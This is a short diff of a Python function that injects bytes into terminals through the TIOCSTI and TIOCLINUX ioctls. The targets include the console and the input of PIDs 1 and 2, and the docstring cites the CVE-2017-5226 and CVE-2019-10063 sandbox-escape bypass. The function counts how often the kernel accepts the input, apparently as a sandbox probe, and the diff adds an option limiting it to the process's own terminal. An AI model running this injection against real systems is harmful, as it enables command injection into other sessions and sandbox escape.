@@ -155,16 +155,16 @@ def linger(mark: str) -> int:
     return 0
 
 
-def push(byte: str) -> int:
+def push(byte: str, only: str = "") -> int:
     """Type a byte into every terminal in reach: TIOCSTI and TIOCLINUX; with high bits set, which a comparison of 64
-    bits takes for another command (CVE-2017-5226, CVE-2019-10063). How often the kernel took it.
+    bits takes for another command (CVE-2017-5226, CVE-2019-10063). How often the kernel took it. With `only`
+    no terminal but the own one.
     """
     typed = ctypes.create_string_buffer(byte.encode())
     number = {"x86_64": 16, "aarch64": 29}[platform.machine()]
     descriptors = [0, 1, 2]
-    for path in (
-        "/dev/tty", "/dev/console", "/dev/pts/0", "/proc/self/fd/0", "/proc/self/fd/2", "/proc/1/fd/0", "/proc/2/fd/0"
-    ):  # fmt: skip
+    own = ("/dev/tty", "/proc/self/fd/0", "/proc/self/fd/2")
+    for path in own if only else (*own, "/dev/console", "/dev/pts/0", "/proc/1/fd/0", "/proc/2/fd/0"):
         try:
             descriptors.append(os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK))
         except OSError:
